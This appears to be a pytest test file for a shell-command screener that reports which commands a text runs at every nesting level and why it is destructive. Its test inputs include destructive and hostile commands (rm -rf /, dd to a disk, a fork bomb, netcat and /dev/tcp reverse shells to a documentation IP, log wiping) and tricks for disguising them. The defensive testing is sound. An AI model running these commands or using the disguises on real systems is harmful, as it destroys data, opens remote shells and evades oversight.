"""Which commands a text runs, at all levels, and why it is destructive."""

import pytest

from callgate.screening.shell import SHELL_RULES, read_argv, read_shell


@pytest.mark.parametrize(
    ("text", "commands"),
    [
        ("ls", ("ls",)),
        ("/bin/rm x", ("rm",)),
        ("cat a | sort | uniq -c", ("cat", "sort", "uniq")),
        ("echo $(date)", ("date", "echo")),
        ("echo `id -un`", ("id", "echo")),
        ("diff <(sort a) <(sort b)", ("sort", "sort", "diff")),
        ("sh -c 'ls; rm x'", ("sh", "ls", "rm")),
        ("sh -c 'sh -c \"rm x\"'", ("sh", "sh", "rm")),
        ("sudo -u root -- env A=1 nice rm x", ("sudo", "env", "nice", "rm")),
        ("find . -exec grep -q x {} \\; -exec rm {} \\;", ("find", "grep", "rm")),
        ("ls | xargs -0 rm -f", ("ls", "xargs", "rm")),
        ("bash <<EOF\nrm x\nEOF", ("bash", "rm")),
        ("cat <<EOF | sh\nrm x\nEOF", ("cat", "sh", "rm")),
        ("echo 'rm x' | sh", ("echo", "sh", "rm")),
        ("r''m x", ("rm",)),
        ("$'\\x72m' x", ("rm",)),
        ("{rm,-rf,/srv}", ("rm",)),
        ("a=rm; $a x", ("rm",)),
        ("a='rm -rf x'; $a", ("rm",)),
        ("f() { rm x; }; f", ("rm", "f")),
        ("trap 'rm x' EXIT", ("trap", "rm")),
        ("eval 'ls' -l", ("eval", "ls")),
        ("for c in ls rm; do $c x; done", ("ls", "rm")),
        ("for i in 1 2 3; do echo $i; done", ("echo",)),
        ("if [ -f x ]; then cat x; fi", ("[", "cat")),
        ("docker exec web sh -c 'rm x'", ("docker", "sh", "rm")),
        ("kubectl exec web-0 -- rm x", ("kubectl", "rm")),
        ("ssh web1 'cd /srv && rm x'", ("ssh", "cd", "rm")),
        ("timeout -k 1 5 rm x", ("timeout", "rm")),
        ("export A=$(id)", ("id", "export")),
        ("ssh web1 sudo rm x", ("ssh", "sudo", "rm")),
    ],
)
def test_commands_are_told_by_base_name_at_every_level(text: str, commands: tuple[str, ...]) -> None:
    assert read_shell(text).commands == commands


@pytest.mark.parametrize("text", ["$X -rf /", "$(echo rm) x", "/bin/r? x", "'rm -rf /'", "\u0455h x"])
def test_a_command_that_cannot_be_told_is_a_question_mark(text: str) -> None:
    reading = read_shell(text)
    assert "?" in reading.commands
    assert reading.destructive


@pytest.mark.parametrize(
    ("text", "why"),
    [
        ("rm x", "delete"),
        ("> x", "overwrite"),
        ("dd if=a of=/dev/sda", "device"),
        ("echo x >> /etc/passwd", "system_file"),
        ("kill 1", "stop"),
        ("iptables -F", "firewall"),
        ("sysctl -w a=1", "kernel"),
        ("useradd x", "accounts"),
        ("chmod -R 777 /srv", "permissions"),
        ("crontab -r", "schedule"),
        ("history -c", "tracks"),
        ("apt-get install x", "packages"),
        ("rpm -e x", "packages"),
        ("git reset --hard", "history"),
        ("kubectl drain n1", "delete"),
        ("psql -c 'DROP TABLE t'", "sql"),
        ("nc -e sh h 1", "disclosure"),
        ("ls &&", "unparsable"),
        ("  ", "empty"),
        ("ls\rrm", "control_character"),
        ("r\u200bm x", "lookalike"),
        ("$X", "unresolved_command"),
        ("frobnicate", "unknown_command"),
        ("git frobnicate", "unknown_verb"),
        ("find . $X", "unresolved_option"),
        ("ls > $X", "unresolved_target"),
        ('sh -c "$X"', "unresolved_code"),
        ("python3 -c 1", "interpreter_code"),
        ("./x.sh", "unknown_script"),
        ("tar cf a b --checkpoint-action=exec=sh", "planted_code"),
        ("PATH=x ls", "environment"),
        ("x='a[$(rm)]'; echo $((x))", "evaluated_text"),
        (":(){ :|:& };:", "recursion"),
        ("aws ec2 stop-instances --instance-ids i", "remote_change"),
    ],
)
def test_a_destructive_reading_says_why_by_a_code_of_the_rules(text: str, why: str) -> None:
    reading = read_shell(text)
    assert reading.destructive
    assert why in reading.why
    assert set(reading.why) <= SHELL_RULES.keys()


@pytest.mark.parametrize(
    "words",
    [
        ["echo", "$(rm x)"],
        ["echo", "`rm x`"],
        ["echo", "x", ">", "/etc/passwd"],
        ["echo", "a", ";", "rm", "x"],
        ["cat", "$X"],
        ["cat", "*"],
        ["echo", "{rm,-rf}"],
        ["cat", "a\nrm b"],
        ["find", ".", "-name", "$X"],
    ],
)
def test_nothing_in_an_argument_list_is_expanded(words: list[str]) -> None:
    reading = read_argv(words)
    assert not reading.destructive
    assert not reading.writes
    assert reading.commands == (words[0],)


def test_a_shell_in_an_argument_list_reads_its_text() -> None:
    assert read_argv(["bash", "-c", "ls; $(echo rm) x"]).destructive
    assert read_argv(["bash", "-c", "ls | wc -l"]).commands == ("bash", "ls", "wc")


@pytest.mark.parametrize("words", [[], [""], ["", "x"], ["ls", "\x00"], ["ls", "\x1b[2J"], ["\ud800"]])
def test_an_argument_list_that_is_none_is_destructive(words: list[str]) -> None:
    assert read_argv(words).destructive


def test_a_text_that_tree_sitter_finds_an_error_in_is_still_looked_through() -> None:
    reading = read_shell("exec 5<>/dev/tcp/198.51.100.7/4444; sh <&5")
    assert reading.network
    assert reading.destructive


@pytest.mark.parametrize("name", ["rm", "find", "sed", "git", "kubectl", "python3", "bash"])
def test_help_and_version_of_a_known_command_do_nothing(name: str) -> None:
    assert read_shell(f"{name} --help").why == ()
    assert read_shell(f"{name} --version").why == ()
